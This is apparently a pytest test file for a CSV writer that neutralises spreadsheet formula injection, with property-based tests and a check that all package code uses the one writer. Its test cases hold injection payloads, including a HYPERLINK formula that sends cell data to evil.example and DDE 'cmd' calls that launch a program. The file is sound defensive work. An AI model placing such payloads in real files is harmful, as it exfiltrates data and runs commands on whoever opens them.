"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised, and read back exactly."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nurture import csvfile

PACKAGE = Path(csvfile.__file__).resolve().parent


def write_and_read(cells: list[object]) -> list[str]:
    buffer = io.StringIO(newline="")
    csvfile.writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


# Issue 9, item 7: each payload as written, and as the written file reads back with the csv module.
@pytest.mark.parametrize(
    ("value", "read_back"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd\\|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("|x", "'\\|x"),
        ("%x", "'%x"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("'=already quoted", "''=already quoted"),
    ],
)
def test_each_formula_is_neutralised_and_restored(value, read_back):
    assert write_and_read([value]) == [read_back]
    assert csvfile.restore(read_back) == value


@pytest.mark.parametrize("value", ["-12", "-3.5", "1,000", "0", "plain", "O'Brien", "'quoted", "a=b", " =1", ""])
def test_numbers_and_text_are_left_alone(value):
    assert write_and_read([value]) == [value]
    assert csvfile.restore(value) == value


def test_non_text_cells_are_written_as_the_csv_module_writes_them():
    assert write_and_read([None, -5, 2.5, True]) == ["", "-5", "2.5", "True"]


def test_dict_writer_neutralises_headers_and_cells():
    buffer = io.StringIO(newline="")
    writer = csvfile.DictWriter(buffer, ["name", "=total"])
    writer.writeheader()
    writer.writerow({"name": "@me", "=total": -3})
    writer.writerows([{"name": "plain"}])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        ["name", "'=total"], ["'@me", "-3"], ["plain", ""],
    ]


TRICKY = st.text(alphabet=st.sampled_from(list("=+-@|%\t\r\n'\\\",;x0 .")) | st.characters(), max_size=12)


@given(st.lists(TRICKY, min_size=1, max_size=5))
def test_no_cell_reads_back_as_a_formula_and_restore_gives_every_value_back(cells):
    read = write_and_read(cells)
    assert [csvfile.restore(cell) for cell in read] == cells
    for cell in read:
        assert not cell or cell[0] not in csvfile.TRIGGERS or re.fullmatch(r"-?[0-9,.]+", cell), cell


def test_every_csv_the_package_writes_goes_through_the_one_writer():
    writers = re.compile(r"\bcsv\.(?:writer|DictWriter)\b|from\s+csv\s+import[^\n]*\b(?:writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path != Path(csvfile.__file__).resolve() and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
